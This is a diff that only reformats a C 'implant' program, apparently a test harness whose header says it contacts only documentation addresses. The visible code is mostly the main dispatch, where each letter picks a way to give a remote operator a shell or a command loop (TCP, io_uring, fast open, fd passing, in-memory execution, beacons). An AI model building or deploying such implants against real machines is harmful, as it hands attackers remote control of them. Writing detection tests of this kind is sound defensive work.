@@ -1,20 +1,20 @@
 // SPDX-License-Identifier: Apache-2.0
-// implant ADDRESS PORT SHAPE [SECONDS]: plays small compiled payloads, each SHAPE (a letter) another
-// way to a shell or to programs that a remote operator names. Only documentation addresses are
-// ever talked to.
+// implant ADDRESS PORT SHAPE [SECONDS]: plays small compiled payloads, each SHAPE (a letter)
+// another way to a shell or to programs that a remote operator names. Only documentation addresses
+// are ever talked to.
 #define _GNU_SOURCE
 #include <arpa/inet.h>
+#include <liburing.h>
 #include <netinet/ip_icmp.h>
 #include <poll.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
+
 #include <sys/mman.h>
 #include <sys/socket.h>
 #include <sys/wait.h>
-#include <unistd.h>
-
-#include <liburing.h>
 
 extern char** environ;
 static struct sockaddr_in g_peer;
@@ -197,8 +197,10 @@ static int handed_over(void) {
     int pair[2];
     char control[CMSG_SPACE(sizeof(int))] = {0}, byte = 0;
     struct iovec data = {&byte, 1};
-    struct msghdr message = {
-        .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
+    struct msghdr message = {.msg_iov = &data,
+                             .msg_iovlen = 1,
+                             .msg_control = control,
+                             .msg_controllen = sizeof control};
     if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0)
         exit(1);
     if (fork() == 0) {
@@ -288,23 +290,57 @@ int main(int argc, char** argv) {
         return 2;
     g_seconds = argc > 4 ? atoi(argv[4]) : 0;
     switch (argv[3][0]) {
-    case 'a': become_shell(tcp()); break;
-    case 'b': child_shell(tcp()); break;
-    case 'c': relay(); break;
-    case 'd': from_memory(argv); break;
-    case 'e': command_loop(tcp(), run_shell); break;
-    case 'f': command_loop(tcp(), run_program); break;
-    case 'g': beacon(); break;
-    case 'h': datagrams(); break;
-    case 'i': become_shell(fast_open()); break;
-    case 'j': become_shell(ring(0)); break;
-    case 'k': child_shell(ring(IORING_SETUP_SQPOLL)); break;
-    case 'l': become_shell(handed_over()); break;
-    case 'm': child_shell(accepted()); break;
-    case 'n': echoes(); break;
-    case 'o': sleep((unsigned)g_seconds); orphan_shell(tcp()); break;
-    case 'p': command_loop(accepted(), run_program); break;
-    default: return 2;
+        case 'a':
+            become_shell(tcp());
+            break;
+        case 'b':
+            child_shell(tcp());
+            break;
+        case 'c':
+            relay();
+            break;
+        case 'd':
+            from_memory(argv);
+            break;
+        case 'e':
+            command_loop(tcp(), run_shell);
+            break;
+        case 'f':
+            command_loop(tcp(), run_program);
+            break;
+        case 'g':
+            beacon();
+            break;
+        case 'h':
+            datagrams();
+            break;
+        case 'i':
+            become_shell(fast_open());
+            break;
+        case 'j':
+            become_shell(ring(0));
+            break;
+        case 'k':
+            child_shell(ring(IORING_SETUP_SQPOLL));
+            break;
+        case 'l':
+            become_shell(handed_over());
+            break;
+        case 'm':
+            child_shell(accepted());
+            break;
+        case 'n':
+            echoes();
+            break;
+        case 'o':
+            sleep((unsigned)g_seconds);
+            orphan_shell(tcp());
+            break;
+        case 'p':
+            command_loop(accepted(), run_program);
+            break;
+        default:
+            return 2;
     }
     return 0;
 }
